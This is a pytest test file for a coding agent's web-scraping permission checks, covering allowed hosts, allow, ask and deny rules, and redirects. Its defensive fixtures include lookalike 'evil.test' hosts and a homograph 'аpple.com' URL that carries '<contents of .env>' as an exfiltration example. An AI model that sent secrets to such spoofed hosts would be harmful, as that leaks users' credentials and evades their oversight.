"""Which calls of the web tools run unasked: by host, by rules about addresses, and never past a rule of the user."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from codeagent_lsp.config import PermissionsSettings, Settings, WebSettings
from codeagent_lsp.messages import ToolResult
from codeagent_lsp.tools.web.http import Fetcher, PageLimits
from codeagent_lsp.tools.web.scraping import Web
from codeagent_lsp.tools.web.web_tools import WebScrape, WebSearch
from tests.tools.fakes import Bench
from tests.tools.web.net import OTHER, PUBLIC, Net, answer, pages, redirect, server

HOST = "docs.example.org"
HERE = (PUBLIC, 80)


@pytest.fixture
def net() -> Net:
    return Net({HOST: [[PUBLIC]], f"{HOST}.evil.test": [[OTHER]], "evil.test": [[OTHER]]})


@pytest.fixture
def bench(tmp_path: Path, net: Net, state_dir: Path) -> Bench:
    web = Web(Fetcher(net.dialer, PageLimits(seconds=3)), "")
    return Bench(tmp_path / "work", [WebSearch(web), WebScrape(web)])


async def scrape(bench: Bench, url: str, hosts: tuple[str, ...] = (), **rules: tuple[str, ...]) -> ToolResult:
    permissions = replace(PermissionsSettings(), **rules)  # type: ignore[arg-type]
    bench.configure(replace(Settings(), web=WebSettings(allowed_hosts=hosts), permissions=permissions))
    return await bench.call("web_scrape", url=url)


async def test_an_allowed_host_is_not_asked_about(bench: Bench, net: Net) -> None:
    async with server(pages({"/x": answer("words", media="text/plain")}), net, HERE):
        assert (await scrape(bench, f"http://{HOST}/x", (HOST,))).ok
    assert bench.asker.asked == []


@pytest.mark.parametrize("url", [f"http://{HOST}.evil.test/", f"http://evil.test/{HOST}", f"http://evil.test/?{HOST}"])
async def test_others_are(bench: Bench, net: Net, url: str) -> None:
    assert (await scrape(bench, url, (HOST,))).status == "denied"
    assert len(bench.asker.asked) == 1 and net.tried == []


async def test_an_allowed_host_leads_nowhere_else(bench: Bench, net: Net) -> None:
    async with server(pages({"/": redirect("http://evil.test/?d=1")}), net, HERE):
        assert (await scrape(bench, f"http://{HOST}/", (HOST,))).status == "retry"
    assert bench.asker.asked == [] and net.tried == [HERE]


@pytest.mark.parametrize("rules", [{"ask": ("web_scrape",)}, {"ask": (f"web_scrape(http://{HOST}/*)",)}])
async def test_an_ask_rule_asks_all_the_same(bench: Bench, rules: dict[str, tuple[str, ...]]) -> None:
    assert (await scrape(bench, f"http://{HOST}/x", (HOST,), **rules)).status == "denied"
    assert len(bench.asker.asked) == 1


@pytest.mark.parametrize("rule", ["web_scrape", f"web_scrape(http://{HOST}/*)", "web_*"])
async def test_a_deny_rule_denies_all_the_same(bench: Bench, net: Net, rule: str) -> None:
    assert (await scrape(bench, f"HTTP://{HOST.upper()}./x", (HOST,), deny=(rule,))).status == "denied"
    assert bench.asker.asked == [] and net.tried == []


async def test_a_rule_about_addresses_allows(bench: Bench, net: Net) -> None:
    rule = f"web_scrape(http://{HOST}/guide/*)"
    async with server(pages({"/guide/x": answer("words", media="text/plain")}), net, HERE):
        assert (await scrape(bench, f"http://{HOST}/guide/x", allow=(rule,))).ok
        assert (await scrape(bench, f"http://{HOST}/other", allow=(rule,))).status == "denied"
    assert len(bench.asker.asked) == 1


async def test_the_question_names_the_address_and_shows_the_call(bench: Bench) -> None:
    await scrape(bench, "https://\u0430pple.com/?d=<contents of .env>")
    [question] = bench.asker.asked
    shown = "https://xn--pple-43d.com/?d=%3Ccontents%20of%20.env%3E"
    assert shown in question.title and shown in question.detail
